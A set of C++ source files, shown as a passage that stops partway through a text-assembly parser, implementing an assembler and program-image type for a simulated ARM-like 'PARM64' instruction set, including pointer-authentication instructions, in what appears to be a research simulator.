/**
 * @file
 * Programmatic PARM64 assembler (builder API).
 *
 * Victim kexts and attacker routines are emitted through this class so
 * that they run as genuine guest code inside the simulated pipeline.
 * The API mirrors assembly one-to-one:
 *
 * @code
 *   Assembler a(0x4000'0000);
 *   a.movz(X0, 0);
 *   a.label("loop");
 *   a.addi(X0, X0, 1);
 *   a.cmpi(X0, 10);
 *   a.bcond(Cond::NE, "loop");
 *   a.hlt(0);
 *   Program p = a.finalize();
 * @endcode
 *
 * Forward references to labels are resolved at finalize() time.
 */

#ifndef PACMAN_ASM_ASSEMBLER_HH
#define PACMAN_ASM_ASSEMBLER_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "asm/program.hh"
#include "isa/inst.hh"

namespace pacman::asmjit
{

using isa::Cond;
using isa::RegIndex;
using isa::SysReg;

/** Builder-style assembler; see file comment for usage. */
class Assembler
{
  public:
    /** @param base Load address of the first emitted instruction. */
    explicit Assembler(isa::Addr base);

    /** Address the next instruction will be emitted at. */
    isa::Addr here() const;

    /** Bind @p name to the current address. */
    void label(const std::string &name);

    // --- ALU register ---
    void add(RegIndex rd, RegIndex rn, RegIndex rm);
    void sub(RegIndex rd, RegIndex rn, RegIndex rm);
    void and_(RegIndex rd, RegIndex rn, RegIndex rm);
    void orr(RegIndex rd, RegIndex rn, RegIndex rm);
    void eor(RegIndex rd, RegIndex rn, RegIndex rm);
    void lslv(RegIndex rd, RegIndex rn, RegIndex rm);
    void lsrv(RegIndex rd, RegIndex rn, RegIndex rm);
    void asrv(RegIndex rd, RegIndex rn, RegIndex rm);
    void mul(RegIndex rd, RegIndex rn, RegIndex rm);
    void subs(RegIndex rd, RegIndex rn, RegIndex rm);
    void adds(RegIndex rd, RegIndex rn, RegIndex rm);
    void cmp(RegIndex rn, RegIndex rm);
    void mov(RegIndex rd, RegIndex rn);

    // --- ALU immediate ---
    void addi(RegIndex rd, RegIndex rn, int64_t imm);
    void subi(RegIndex rd, RegIndex rn, int64_t imm);
    void andi(RegIndex rd, RegIndex rn, int64_t imm);
    void orri(RegIndex rd, RegIndex rn, int64_t imm);
    void eori(RegIndex rd, RegIndex rn, int64_t imm);
    void lsli(RegIndex rd, RegIndex rn, unsigned shift);
    void lsri(RegIndex rd, RegIndex rn, unsigned shift);
    void asri(RegIndex rd, RegIndex rn, unsigned shift);
    void subsi(RegIndex rd, RegIndex rn, int64_t imm);
    void cmpi(RegIndex rn, int64_t imm);

    // --- Wide immediates ---
    void movz(RegIndex rd, uint16_t imm, unsigned hw = 0);
    void movk(RegIndex rd, uint16_t imm, unsigned hw);

    /** Materialize an arbitrary 64-bit constant (movz + up to 3 movk). */
    void mov64(RegIndex rd, uint64_t value);

    // --- Memory ---
    void ldr(RegIndex rt, RegIndex rn, int64_t imm = 0);
    void str(RegIndex rt, RegIndex rn, int64_t imm = 0);
    void ldrb(RegIndex rt, RegIndex rn, int64_t imm = 0);
    void strb(RegIndex rt, RegIndex rn, int64_t imm = 0);
    void ldrr(RegIndex rt, RegIndex rn, RegIndex rm);
    void strr(RegIndex rt, RegIndex rn, RegIndex rm);

    // --- Direct branches (label or absolute-address forms) ---
    void b(const std::string &label);
    void b(isa::Addr target);
    void bl(const std::string &label);
    void bl(isa::Addr target);
    void bcond(Cond cond, const std::string &label);
    void bcond(Cond cond, isa::Addr target);
    void cbz(RegIndex rt, const std::string &label);
    void cbnz(RegIndex rt, const std::string &label);
    void cbz(RegIndex rt, isa::Addr target);
    void cbnz(RegIndex rt, isa::Addr target);

    // --- Indirect branches ---
    void br(RegIndex rn);
    void blr(RegIndex rn);
    void ret(RegIndex rn = isa::LR);

    /** Combined authenticate-and-branch (ARMv8.3). */
    void braa(RegIndex rn, RegIndex rm);
    void blraa(RegIndex rn, RegIndex rm);
    void retaa();

    // --- Pointer authentication ---
    void pacia(RegIndex rd, RegIndex rn);
    void pacib(RegIndex rd, RegIndex rn);
    void pacda(RegIndex rd, RegIndex rn);
    void pacdb(RegIndex rd, RegIndex rn);
    void autia(RegIndex rd, RegIndex rn);
    void autib(RegIndex rd, RegIndex rn);
    void autda(RegIndex rd, RegIndex rn);
    void autdb(RegIndex rd, RegIndex rn);
    void xpac(RegIndex rd);

    // --- System ---
    void mrs(RegIndex rd, SysReg reg);
    void msr(SysReg reg, RegIndex rn);
    void svc(uint16_t imm);
    void eret();
    void isb();
    void dsb();
    void nop();
    void hlt(uint16_t code);
    void brk(uint16_t code);

    /** Emit a raw pre-built instruction. */
    void emit(const isa::Inst &inst);

    /** Emit a raw word (data in the code stream). */
    void word(isa::InstWord w);

    /** Number of instructions emitted so far. */
    size_t size() const { return insts_.size(); }

    /**
     * Resolve label fixups and produce the program image.
     * Calls fatal() on undefined labels.
     */
    Program finalize();

  private:
    struct Fixup
    {
        size_t index;        //!< instruction slot to patch
        std::string label;   //!< target label
    };

    void emitBranch(isa::Opcode op, const std::string &label,
                    Cond cond = Cond::AL, RegIndex rt = 0);
    void emitBranchAbs(isa::Opcode op, isa::Addr target,
                       Cond cond = Cond::AL, RegIndex rt = 0);

    isa::Addr base_;
    std::vector<isa::Inst> insts_;
    std::vector<bool> isRaw_;            //!< emitted via word()
    std::vector<isa::InstWord> rawWords_;
    std::map<std::string, isa::Addr> labels_;
    std::vector<Fixup> fixups_;
};

} // namespace pacman::asmjit

#endif // PACMAN_ASM_ASSEMBLER_HH
