/**
 * @file
 * An assembled PARM64 program: a base address, the encoded instruction
 * words, and a symbol table. Produced by the Assembler (builder API)
 * or the TextAssembler, consumed by loaders and the static analyzer.
 */

#ifndef PACMAN_ASM_PROGRAM_HH
#define PACMAN_ASM_PROGRAM_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "isa/inst.hh"
#include "isa/pointer.hh"

namespace pacman::asmjit
{

/** An assembled code image. */
struct Program
{
    /** Load address of the first instruction. */
    isa::Addr base = 0;

    /** Encoded instruction words, contiguous from base. */
    std::vector<isa::InstWord> words;

    /** Label name -> absolute address. */
    std::map<std::string, isa::Addr> symbols;

    /** Size of the image in bytes. */
    uint64_t
    byteSize() const
    {
        return words.size() * isa::InstBytes;
    }

    /** End address (one past the last instruction). */
    isa::Addr
    end() const
    {
        return base + byteSize();
    }

    /**
     * Look up a symbol.
     * Calls fatal() when absent: a missing label in hand-written
     * victim/attacker code is a configuration error.
     */
    isa::Addr symbol(const std::string &name) const;

    /** True if the symbol exists. */
    bool hasSymbol(const std::string &name) const;
};

} // namespace pacman::asmjit

#endif // PACMAN_ASM_PROGRAM_HH
