#include "assembler.hh"

#include "base/bitfield.hh"
#include "base/logging.hh"
#include "isa/encoding.hh"

namespace pacman::asmjit
{

using isa::Inst;
using isa::InstBytes;
using isa::Opcode;

Assembler::Assembler(isa::Addr base)
    : base_(base)
{
    PACMAN_ASSERT(base % InstBytes == 0,
                  "assembler base 0x%llx not word-aligned",
                  (unsigned long long)base);
}

isa::Addr
Assembler::here() const
{
    return base_ + insts_.size() * InstBytes;
}

void
Assembler::label(const std::string &name)
{
    if (labels_.count(name))
        fatal("assembler: duplicate label '%s'", name.c_str());
    labels_[name] = here();
}

void
Assembler::emit(const Inst &inst)
{
    insts_.push_back(inst);
    isRaw_.push_back(false);
    rawWords_.push_back(0);
}

void
Assembler::word(isa::InstWord w)
{
    insts_.push_back(Inst{});
    isRaw_.push_back(true);
    rawWords_.push_back(w);
}

namespace
{

Inst
rType(Opcode op, RegIndex rd, RegIndex rn, RegIndex rm = 0)
{
    Inst i;
    i.op = op;
    i.rd = rd;
    i.rn = rn;
    i.rm = rm;
    return i;
}

Inst
iType(Opcode op, RegIndex rd, RegIndex rn, int64_t imm)
{
    Inst i;
    i.op = op;
    i.rd = rd;
    i.rn = rn;
    i.imm = imm;
    return i;
}

} // anonymous namespace

// --- ALU register ---

void Assembler::add(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::ADD, rd, rn, rm)); }
void Assembler::sub(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::SUB, rd, rn, rm)); }
void Assembler::and_(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::AND, rd, rn, rm)); }
void Assembler::orr(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::ORR, rd, rn, rm)); }
void Assembler::eor(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::EOR, rd, rn, rm)); }
void Assembler::lslv(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::LSLV, rd, rn, rm)); }
void Assembler::lsrv(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::LSRV, rd, rn, rm)); }
void Assembler::asrv(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::ASRV, rd, rn, rm)); }
void Assembler::mul(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::MUL, rd, rn, rm)); }
void Assembler::subs(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::SUBS, rd, rn, rm)); }
void Assembler::adds(RegIndex rd, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::ADDS, rd, rn, rm)); }
void Assembler::cmp(RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::CMP, 0, rn, rm)); }
void Assembler::mov(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::MOVR, rd, rn)); }

// --- ALU immediate ---

void Assembler::addi(RegIndex rd, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::ADDI, rd, rn, imm)); }
void Assembler::subi(RegIndex rd, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::SUBI, rd, rn, imm)); }
void Assembler::andi(RegIndex rd, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::ANDI, rd, rn, imm)); }
void Assembler::orri(RegIndex rd, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::ORRI, rd, rn, imm)); }
void Assembler::eori(RegIndex rd, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::EORI, rd, rn, imm)); }
void Assembler::lsli(RegIndex rd, RegIndex rn, unsigned shift)
{ emit(iType(Opcode::LSLI, rd, rn, int64_t(shift))); }
void Assembler::lsri(RegIndex rd, RegIndex rn, unsigned shift)
{ emit(iType(Opcode::LSRI, rd, rn, int64_t(shift))); }
void Assembler::asri(RegIndex rd, RegIndex rn, unsigned shift)
{ emit(iType(Opcode::ASRI, rd, rn, int64_t(shift))); }
void Assembler::subsi(RegIndex rd, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::SUBSI, rd, rn, imm)); }
void Assembler::cmpi(RegIndex rn, int64_t imm)
{ emit(iType(Opcode::CMPI, 0, rn, imm)); }

// --- Wide immediates ---

void
Assembler::movz(RegIndex rd, uint16_t imm, unsigned hw)
{
    Inst i;
    i.op = Opcode::MOVZ;
    i.rd = rd;
    i.imm = imm;
    i.hw = uint8_t(hw);
    emit(i);
}

void
Assembler::movk(RegIndex rd, uint16_t imm, unsigned hw)
{
    Inst i;
    i.op = Opcode::MOVK;
    i.rd = rd;
    i.imm = imm;
    i.hw = uint8_t(hw);
    emit(i);
}

void
Assembler::mov64(RegIndex rd, uint64_t value)
{
    movz(rd, uint16_t(value & 0xffff), 0);
    for (unsigned hw = 1; hw < 4; ++hw) {
        const uint16_t part = uint16_t((value >> (16 * hw)) & 0xffff);
        if (part != 0)
            movk(rd, part, hw);
    }
}

// --- Memory ---

void Assembler::ldr(RegIndex rt, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::LDR, rt, rn, imm)); }
void Assembler::str(RegIndex rt, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::STR, rt, rn, imm)); }
void Assembler::ldrb(RegIndex rt, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::LDRB, rt, rn, imm)); }
void Assembler::strb(RegIndex rt, RegIndex rn, int64_t imm)
{ emit(iType(Opcode::STRB, rt, rn, imm)); }
void Assembler::ldrr(RegIndex rt, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::LDRR, rt, rn, rm)); }
void Assembler::strr(RegIndex rt, RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::STRR, rt, rn, rm)); }

// --- Direct branches ---

void
Assembler::emitBranch(Opcode op, const std::string &label, Cond cond,
                      RegIndex rt)
{
    Inst i;
    i.op = op;
    i.cond = cond;
    i.rd = rt;
    fixups_.push_back({insts_.size(), label});
    emit(i);
}

void
Assembler::emitBranchAbs(Opcode op, isa::Addr target, Cond cond,
                         RegIndex rt)
{
    Inst i;
    i.op = op;
    i.cond = cond;
    i.rd = rt;
    i.imm = int64_t(target) - int64_t(here());
    emit(i);
}

void Assembler::b(const std::string &label)
{ emitBranch(Opcode::B, label); }
void Assembler::b(isa::Addr target)
{ emitBranchAbs(Opcode::B, target); }
void Assembler::bl(const std::string &label)
{ emitBranch(Opcode::BL, label); }
void Assembler::bl(isa::Addr target)
{ emitBranchAbs(Opcode::BL, target); }
void Assembler::bcond(Cond cond, const std::string &label)
{ emitBranch(Opcode::BCOND, label, cond); }
void Assembler::bcond(Cond cond, isa::Addr target)
{ emitBranchAbs(Opcode::BCOND, target, cond); }
void Assembler::cbz(RegIndex rt, const std::string &label)
{ emitBranch(Opcode::CBZ, label, Cond::AL, rt); }
void Assembler::cbnz(RegIndex rt, const std::string &label)
{ emitBranch(Opcode::CBNZ, label, Cond::AL, rt); }
void Assembler::cbz(RegIndex rt, isa::Addr target)
{ emitBranchAbs(Opcode::CBZ, target, Cond::AL, rt); }
void Assembler::cbnz(RegIndex rt, isa::Addr target)
{ emitBranchAbs(Opcode::CBNZ, target, Cond::AL, rt); }

// --- Indirect branches ---

void Assembler::br(RegIndex rn)
{ emit(rType(Opcode::BR, 0, rn)); }
void Assembler::blr(RegIndex rn)
{ emit(rType(Opcode::BLR, 0, rn)); }
void Assembler::ret(RegIndex rn)
{ emit(rType(Opcode::RET, 0, rn)); }
void Assembler::braa(RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::BRAA, 0, rn, rm)); }
void Assembler::blraa(RegIndex rn, RegIndex rm)
{ emit(rType(Opcode::BLRAA, 0, rn, rm)); }
void Assembler::retaa()
{ emit(rType(Opcode::RETAA, 0, isa::LR, isa::SP)); }

// --- Pointer authentication ---

void Assembler::pacia(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::PACIA, rd, rn)); }
void Assembler::pacib(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::PACIB, rd, rn)); }
void Assembler::pacda(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::PACDA, rd, rn)); }
void Assembler::pacdb(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::PACDB, rd, rn)); }
void Assembler::autia(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::AUTIA, rd, rn)); }
void Assembler::autib(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::AUTIB, rd, rn)); }
void Assembler::autda(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::AUTDA, rd, rn)); }
void Assembler::autdb(RegIndex rd, RegIndex rn)
{ emit(rType(Opcode::AUTDB, rd, rn)); }
void Assembler::xpac(RegIndex rd)
{ emit(rType(Opcode::XPAC, rd, 0)); }

// --- System ---

void
Assembler::mrs(RegIndex rd, SysReg reg)
{
    Inst i;
    i.op = Opcode::MRS;
    i.rd = rd;
    i.sysreg = reg;
    emit(i);
}

void
Assembler::msr(SysReg reg, RegIndex rn)
{
    Inst i;
    i.op = Opcode::MSR;
    i.rd = rn; // the encoding's rd field carries the source register
    i.sysreg = reg;
    emit(i);
}

void
Assembler::svc(uint16_t imm)
{
    Inst i;
    i.op = Opcode::SVC;
    i.imm = imm;
    emit(i);
}

void Assembler::eret() { emit(Inst{.op = Opcode::ERET}); }
void Assembler::isb() { emit(Inst{.op = Opcode::ISB}); }
void Assembler::dsb() { emit(Inst{.op = Opcode::DSB}); }
void Assembler::nop() { emit(Inst{.op = Opcode::NOP}); }

void
Assembler::hlt(uint16_t code)
{
    Inst i;
    i.op = Opcode::HLT;
    i.imm = code;
    emit(i);
}

void
Assembler::brk(uint16_t code)
{
    Inst i;
    i.op = Opcode::BRK;
    i.imm = code;
    emit(i);
}

Program
Assembler::finalize()
{
    for (const Fixup &fix : fixups_) {
        auto it = labels_.find(fix.label);
        if (it == labels_.end())
            fatal("assembler: undefined label '%s'", fix.label.c_str());
        const isa::Addr pc = base_ + fix.index * InstBytes;
        insts_[fix.index].imm = int64_t(it->second) - int64_t(pc);
    }

    Program prog;
    prog.base = base_;
    prog.symbols = labels_;
    prog.words.reserve(insts_.size());
    for (size_t i = 0; i < insts_.size(); ++i) {
        prog.words.push_back(isRaw_[i] ? rawWords_[i]
                                       : isa::encode(insts_[i]));
    }
    return prog;
}

} // namespace pacman::asmjit
