#include "program.hh"

#include "base/logging.hh"

namespace pacman::asmjit
{

isa::Addr
Program::symbol(const std::string &name) const
{
    auto it = symbols.find(name);
    if (it == symbols.end())
        fatal("program: undefined symbol '%s'", name.c_str());
    return it->second;
}

bool
Program::hasSymbol(const std::string &name) const
{
    return symbols.count(name) != 0;
}

} // namespace pacman::asmjit
