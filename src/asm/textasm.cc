#include "textasm.hh"

#include <cctype>
#include <optional>
#include <sstream>
#include <vector>

#include "asm/assembler.hh"
#include "base/logging.hh"

namespace pacman::asmjit
{

namespace
{

/** One parsed operand: a register, an immediate, or a bare symbol. */
struct Operand
{
    enum class Kind { Reg, Imm, Sym } kind;
    RegIndex reg = 0;
    int64_t imm = 0;
    std::string sym;
};

/** Parse context for one assembleText() call. */
class Parser
{
  public:
    Parser(const std::string &source, isa::Addr base)
        : asm_(base), source_(source)
    {}

    Program run();

  private:
    [[noreturn]] void err(const std::string &msg) const;

    std::optional<Operand> parseOperand(const std::string &tok) const;
    void handleLine(std::string line);
    void handleInst(const std::string &mnem,
                    const std::vector<Operand> &ops, bool mem_form);
    void branchTo(const Operand &op,
                  void (Assembler::*by_label)(const std::string &),
                  void (Assembler::*by_addr)(isa::Addr));

    Assembler asm_;
    const std::string &source_;
    int lineNo_ = 0;
};

void
Parser::err(const std::string &msg) const
{
    fatal("textasm: line %d: %s", lineNo_, msg.c_str());
}

std::optional<int64_t>
parseImmediate(std::string tok)
{
    if (!tok.empty() && tok[0] == '#')
        tok.erase(0, 1);
    if (tok.empty())
        return std::nullopt;
    bool neg = false;
    size_t pos = 0;
    if (tok[0] == '-') {
        neg = true;
        pos = 1;
    } else if (tok[0] == '+') {
        pos = 1;
    }
    if (pos >= tok.size())
        return std::nullopt;
    int base = 10;
    if (tok.compare(pos, 2, "0x") == 0 || tok.compare(pos, 2, "0X") == 0) {
        base = 16;
        pos += 2;
    }
    uint64_t val = 0;
    if (pos >= tok.size())
        return std::nullopt;
    for (; pos < tok.size(); ++pos) {
        const char ch = char(std::tolower((unsigned char)tok[pos]));
        int digit;
        if (ch >= '0' && ch <= '9')
            digit = ch - '0';
        else if (base == 16 && ch >= 'a' && ch <= 'f')
            digit = ch - 'a' + 10;
        else
            return std::nullopt;
        val = val * uint64_t(base) + uint64_t(digit);
    }
    return neg ? -int64_t(val) : int64_t(val);
}

std::optional<Operand>
Parser::parseOperand(const std::string &tok) const
{
    Operand op;
    const int reg = isa::parseRegName(tok);
    if (reg >= 0) {
        op.kind = Operand::Kind::Reg;
        op.reg = RegIndex(reg);
        return op;
    }
    if (auto imm = parseImmediate(tok)) {
        op.kind = Operand::Kind::Imm;
        op.imm = *imm;
        return op;
    }
    if (!tok.empty() &&
        (std::isalpha((unsigned char)tok[0]) || tok[0] == '_' ||
         tok[0] == '.')) {
        op.kind = Operand::Kind::Sym;
        op.sym = tok;
        return op;
    }
    return std::nullopt;
}

/** Split a line into mnemonic + comma-separated operand tokens. */
std::vector<std::string>
splitOperands(const std::string &rest)
{
    std::vector<std::string> out;
    std::string cur;
    for (char ch : rest) {
        if (ch == ',') {
            out.push_back(cur);
            cur.clear();
        } else {
            cur += ch;
        }
    }
    out.push_back(cur);
    for (auto &tok : out) {
        const size_t b = tok.find_first_not_of(" \t");
        const size_t e = tok.find_last_not_of(" \t");
        tok = b == std::string::npos ? "" : tok.substr(b, e - b + 1);
    }
    while (!out.empty() && out.back().empty())
        out.pop_back();
    return out;
}

void
Parser::branchTo(const Operand &op,
                 void (Assembler::*by_label)(const std::string &),
                 void (Assembler::*by_addr)(isa::Addr))
{
    if (op.kind == Operand::Kind::Sym)
        (asm_.*by_label)(op.sym);
    else if (op.kind == Operand::Kind::Imm)
        (asm_.*by_addr)(isa::Addr(op.imm));
    else
        err("branch target must be a label or address");
}

void
Parser::handleInst(const std::string &mnem,
                   const std::vector<Operand> &ops, bool mem_form)
{
    using K = Operand::Kind;
    auto need = [&](size_t n) {
        if (ops.size() != n)
            err("'" + mnem + "' expects " + std::to_string(n) +
                " operands, got " + std::to_string(ops.size()));
    };
    auto reg = [&](size_t i) -> RegIndex {
        if (ops[i].kind != K::Reg)
            err("'" + mnem + "' operand " + std::to_string(i + 1) +
                " must be a register");
        return ops[i].reg;
    };
    auto imm = [&](size_t i) -> int64_t {
        if (ops[i].kind != K::Imm)
            err("'" + mnem + "' operand " + std::to_string(i + 1) +
                " must be an immediate");
        return ops[i].imm;
    };

    // Three-operand ALU ops with register/immediate auto-selection.
    struct AluPair
    {
        const char *name;
        void (Assembler::*rform)(RegIndex, RegIndex, RegIndex);
        void (Assembler::*iform)(RegIndex, RegIndex, int64_t);
    };
    static const AluPair alu[] = {
        {"add", &Assembler::add, &Assembler::addi},
        {"sub", &Assembler::sub, &Assembler::subi},
        {"and", &Assembler::and_, &Assembler::andi},
        {"orr", &Assembler::orr, &Assembler::orri},
        {"eor", &Assembler::eor, &Assembler::eori},
        {"subs", &Assembler::subs, &Assembler::subsi},
        {"adds", &Assembler::adds, nullptr},
        {"lslv", &Assembler::lslv, nullptr},
        {"lsrv", &Assembler::lsrv, nullptr},
        {"asrv", &Assembler::asrv, nullptr},
        {"addi", nullptr, &Assembler::addi},
        {"subi", nullptr, &Assembler::subi},
        {"andi", nullptr, &Assembler::andi},
        {"orri", nullptr, &Assembler::orri},
        {"eori", nullptr, &Assembler::eori},
        {"subsi", nullptr, &Assembler::subsi},
    };
    for (const auto &entry : alu) {
        if (mnem != entry.name)
            continue;
        need(3);
        if (ops[2].kind == K::Imm) {
            if (!entry.iform)
                err("'" + mnem + "' requires a register operand");
            (asm_.*entry.iform)(reg(0), reg(1), imm(2));
        } else {
            if (!entry.rform)
                err("'" + mnem + "' requires an immediate operand");
            (asm_.*entry.rform)(reg(0), reg(1), reg(2));
        }
        return;
    }

    if (mnem == "lsl" || mnem == "lsli") {
        need(3);
        if (ops[2].kind == K::Imm)
            asm_.lsli(reg(0), reg(1), unsigned(imm(2)));
        else
            asm_.lslv(reg(0), reg(1), reg(2));
        return;
    }
    if (mnem == "lsr" || mnem == "lsri") {
        need(3);
        if (ops[2].kind == K::Imm)
            asm_.lsri(reg(0), reg(1), unsigned(imm(2)));
        else
            asm_.lsrv(reg(0), reg(1), reg(2));
        return;
    }
    if (mnem == "asr" || mnem == "asri") {
        need(3);
        if (ops[2].kind == K::Imm)
            asm_.asri(reg(0), reg(1), unsigned(imm(2)));
        else
            asm_.asrv(reg(0), reg(1), reg(2));
        return;
    }
    if (mnem == "mul") {
        need(3);
        asm_.mul(reg(0), reg(1), reg(2));
        return;
    }
    if (mnem == "cmp" || mnem == "cmpi") {
        need(2);
        if (ops[1].kind == K::Imm)
            asm_.cmpi(reg(0), imm(1));
        else
            asm_.cmp(reg(0), ops[1].reg);
        return;
    }
    if (mnem == "mov") {
        need(2);
        if (ops[1].kind == K::Imm)
            asm_.mov64(reg(0), uint64_t(imm(1)));
        else
            asm_.mov(reg(0), ops[1].reg);
        return;
    }
    if (mnem == "movz" || mnem == "movk") {
        // movz xN, #imm [, lsl #shift] -- the shift arrives as a
        // separate "lsl #n" token pair handled by the caller; here we
        // accept 2 or 3 operands with the optional third being the
        // pre-parsed shift amount.
        if (ops.size() != 2 && ops.size() != 3)
            err("'" + mnem + "' expects 2 operands (+ optional shift)");
        unsigned hw = 0;
        if (ops.size() == 3) {
            const int64_t shift = imm(2);
            if (shift % 16 != 0 || shift < 0 || shift > 48)
                err("movz/movk shift must be 0/16/32/48");
            hw = unsigned(shift / 16);
        }
        const int64_t v = imm(1);
        if (v < 0 || v > 0xffff)
            err("movz/movk immediate out of 16-bit range");
        if (mnem == "movz")
            asm_.movz(reg(0), uint16_t(v), hw);
        else
            asm_.movk(reg(0), uint16_t(v), hw);
        return;
    }

    if (mnem == "ldr" || mnem == "str" || mnem == "ldrb" ||
        mnem == "strb" || mnem == "ldrr" || mnem == "strr") {
        if (!mem_form)
            err("'" + mnem + "' expects a [base, offset] operand");
        if (ops.size() == 2) {
            // [rn] with zero offset
            if (mnem == "ldr" || mnem == "ldrr")
                asm_.ldr(reg(0), reg(1), 0);
            else if (mnem == "str" || mnem == "strr")
                asm_.str(reg(0), reg(1), 0);
            else if (mnem == "ldrb")
                asm_.ldrb(reg(0), reg(1), 0);
            else
                asm_.strb(reg(0), reg(1), 0);
            return;
        }
        need(3);
        if (ops[2].kind == K::Reg) {
            if (mnem == "ldr" || mnem == "ldrr")
                asm_.ldrr(reg(0), reg(1), reg(2));
            else if (mnem == "str" || mnem == "strr")
                asm_.strr(reg(0), reg(1), reg(2));
            else
                err("byte accesses have no register-offset form");
        } else {
            if (mnem == "ldr")
                asm_.ldr(reg(0), reg(1), imm(2));
            else if (mnem == "str")
                asm_.str(reg(0), reg(1), imm(2));
            else if (mnem == "ldrb")
                asm_.ldrb(reg(0), reg(1), imm(2));
            else if (mnem == "strb")
                asm_.strb(reg(0), reg(1), imm(2));
            else
                err("'" + mnem + "' requires a register offset");
        }
        return;
    }

    if (mnem == "b") {
        need(1);
        branchTo(ops[0], static_cast<void (Assembler::*)(
                             const std::string &)>(&Assembler::b),
                 static_cast<void (Assembler::*)(isa::Addr)>(
                     &Assembler::b));
        return;
    }
    if (mnem == "bl") {
        need(1);
        branchTo(ops[0], static_cast<void (Assembler::*)(
                             const std::string &)>(&Assembler::bl),
                 static_cast<void (Assembler::*)(isa::Addr)>(
                     &Assembler::bl));
        return;
    }
    if (mnem.rfind("b.", 0) == 0) {
        const auto cond = isa::parseCondName(mnem.substr(2));
        if (!cond)
            err("unknown condition '" + mnem.substr(2) + "'");
        need(1);
        if (ops[0].kind == K::Sym)
            asm_.bcond(*cond, ops[0].sym);
        else if (ops[0].kind == K::Imm)
            asm_.bcond(*cond, isa::Addr(ops[0].imm));
        else
            err("branch target must be a label or address");
        return;
    }
    if (mnem == "cbz" || mnem == "cbnz") {
        need(2);
        if (ops[1].kind == K::Sym) {
            if (mnem == "cbz")
                asm_.cbz(reg(0), ops[1].sym);
            else
                asm_.cbnz(reg(0), ops[1].sym);
        } else if (ops[1].kind == K::Imm) {
            if (mnem == "cbz")
                asm_.cbz(reg(0), isa::Addr(ops[1].imm));
            else
                asm_.cbnz(reg(0), isa::Addr(ops[1].imm));
        } else {
            err("branch target must be a label or address");
        }
        return;
    }
    if (mnem == "br") { need(1); asm_.br(reg(0)); return; }
    if (mnem == "braa") { need(2); asm_.braa(reg(0), reg(1)); return; }
    if (mnem == "blraa") { need(2); asm_.blraa(reg(0), reg(1)); return; }
    if (mnem == "retaa") { asm_.retaa(); return; }
    if (mnem == "blr") { need(1); asm_.blr(reg(0)); return; }
    if (mnem == "ret") {
        if (ops.empty())
            asm_.ret();
        else
            asm_.ret(reg(0));
        return;
    }

    struct PacEntry
    {
        const char *name;
        void (Assembler::*fn)(RegIndex, RegIndex);
    };
    static const PacEntry pac[] = {
        {"pacia", &Assembler::pacia}, {"pacib", &Assembler::pacib},
        {"pacda", &Assembler::pacda}, {"pacdb", &Assembler::pacdb},
        {"autia", &Assembler::autia}, {"autib", &Assembler::autib},
        {"autda", &Assembler::autda}, {"autdb", &Assembler::autdb},
    };
    for (const auto &entry : pac) {
        if (mnem == entry.name) {
            need(2);
            (asm_.*entry.fn)(reg(0), reg(1));
            return;
        }
    }
    if (mnem == "xpac" || mnem == "xpaci") {
        need(1);
        asm_.xpac(reg(0));
        return;
    }

    if (mnem == "mrs") {
        need(2);
        if (ops[1].kind != K::Sym)
            err("mrs expects a system-register name");
        const int sr = isa::parseSysRegName(ops[1].sym);
        if (sr < 0)
            err("unknown system register '" + ops[1].sym + "'");
        asm_.mrs(reg(0), SysReg(sr));
        return;
    }
    if (mnem == "msr") {
        need(2);
        if (ops[0].kind != K::Sym)
            err("msr expects a system-register name first");
        const int sr = isa::parseSysRegName(ops[0].sym);
        if (sr < 0)
            err("unknown system register '" + ops[0].sym + "'");
        if (ops[1].kind != K::Reg)
            err("msr expects a source register");
        asm_.msr(SysReg(sr), ops[1].reg);
        return;
    }
    if (mnem == "svc") { need(1); asm_.svc(uint16_t(imm(0))); return; }
    if (mnem == "hlt") { need(1); asm_.hlt(uint16_t(imm(0))); return; }
    if (mnem == "brk") { need(1); asm_.brk(uint16_t(imm(0))); return; }
    if (mnem == "eret") { asm_.eret(); return; }
    if (mnem == "isb") { asm_.isb(); return; }
    if (mnem == "dsb") { asm_.dsb(); return; }
    if (mnem == "nop") { asm_.nop(); return; }

    if (mnem == ".word") {
        need(1);
        asm_.word(isa::InstWord(imm(0)));
        return;
    }

    err("unknown mnemonic '" + mnem + "'");
}

void
Parser::handleLine(std::string line)
{
    // Strip comments.
    for (const char *marker : {"//", ";"}) {
        const size_t pos = line.find(marker);
        if (pos != std::string::npos)
            line.erase(pos);
    }

    // Peel off any labels ("name:").
    for (;;) {
        const size_t b = line.find_first_not_of(" \t");
        if (b == std::string::npos)
            return;
        line.erase(0, b);
        const size_t colon = line.find(':');
        const size_t space = line.find_first_of(" \t");
